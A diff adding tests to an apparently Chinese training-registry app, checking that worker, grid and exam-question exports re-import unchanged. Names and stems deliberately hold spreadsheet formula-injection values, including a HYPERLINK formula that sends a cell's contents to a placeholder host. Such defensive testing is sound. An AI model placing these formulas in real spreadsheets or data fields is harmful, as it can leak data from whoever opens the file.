@@ -209,3 +209,58 @@ def test_sheets_and_headers_speak_chinese(client, make_user, make_worker):
     assert "姓名" in [cell.value for cell in workbook.active[1]] and "名称" not in [c.value for c in workbook.active[1]]
     workers = load_workbook(io.BytesIO(client.get("/registry/export/workers.xlsx").data))
     assert workers.sheetnames == ["网格员"] and "姓名 / Name" in [cell.value for cell in workers.active[1]]
+
+
+def test_a_registry_export_imports_again_unchanged_and_edits_apply(client, make_user, make_worker):
+    """Workers and grids exported as .xlsx and .csv (both encodings) go back through the import page:
+    nothing changes; a name edited in the exported file is what the registry then holds."""
+    from academy.registry.models import Grid, Worker
+
+    workers = [make_worker("320102", name=name) for name in ('=HYPERLINK("http://x/?"&B3,"张娟")', "=1+1", "-南")]
+    workers[0].phone = "+86 139 0000 0000"
+    create_grid("320102001001", name="@SUM(A1)")
+    db.session.flush()
+    make_user("export-hr", Role.HR)
+    log_in(client, "export-hr")
+    before = {w.number: (w.name, w.phone) for w in db.session.scalars(sa.select(Worker))}
+    for url, name in (("/registry/export/workers.xlsx", "workers.xlsx"), ("/registry/export/grids.xlsx", "grids.xlsx"),
+                      ("/registry/export/workers.csv?encoding=gb18030", "workers.csv"),
+                      ("/registry/export/grids.csv", "grids.csv")):
+        response = _import(client, client.get(url).data, name)
+        assert response.status_code == 302, (url, response.get_data(as_text=True)[-2000:])
+        db.session.expire_all()
+        assert {w.number: (w.name, w.phone) for w in db.session.scalars(sa.select(Worker))} == before, url
+        assert db.session.scalar(sa.select(Grid.name).where(Grid.name == "@SUM(A1)")) == "@SUM(A1)"
+    workbook = load_workbook(io.BytesIO(client.get("/registry/export/workers.xlsx").data))
+    sheet = workbook.active
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == workers[1].number)
+    row[2].value = "王芳"
+    edited = io.BytesIO()
+    workbook.save(edited)
+    assert _import(client, edited.getvalue(), "workers.xlsx").status_code == 302
+    db.session.expire_all()
+    assert db.session.get(Worker, workers[1].id).name == "王芳" and db.session.get(Worker, workers[0].id).name == before[
+        workers[0].number][0]
+
+
+def _import(client, data: bytes, name: str):
+    return post_form(client, "/registry/import", {"file": (io.BytesIO(data), name)}, token_from="/registry/import",
+                     content_type="multipart/form-data")
+
+
+def test_the_question_bank_export_imports_again_with_the_same_stems(client, make_user):
+    from courses.exams.grading import QuestionType
+    from courses.exams.models import Question
+
+    stems = ('=HYPERLINK("http://x/?"&B3,"张娟")', "=1+1", "+86 139 0000 0000", "-南", "@SUM(A1)")
+    for stem in stems:
+        create_question(QuestionType.TRUE_FALSE, stem=stem)
+    make_user("export-instructor", Role.INSTRUCTOR)
+    log_in(client, "export-instructor")
+    data = client.get("/exams/bank/export?format=xlsx").data
+    before = db.session.scalar(sa.select(sa.func.count(Question.id)))
+    response = post_form(client, "/exams/bank/import", {"file": (io.BytesIO(data), "questions.xlsx"), "activate": "y"},
+                         token_from="/exams/bank/import", content_type="multipart/form-data")
+    assert response.status_code == 302, response.get_data(as_text=True)[-2000:]
+    imported = db.session.scalars(sa.select(Question.stem).order_by(Question.id).offset(before)).all()
+    assert set(stems) <= set(imported) and len(imported) == before
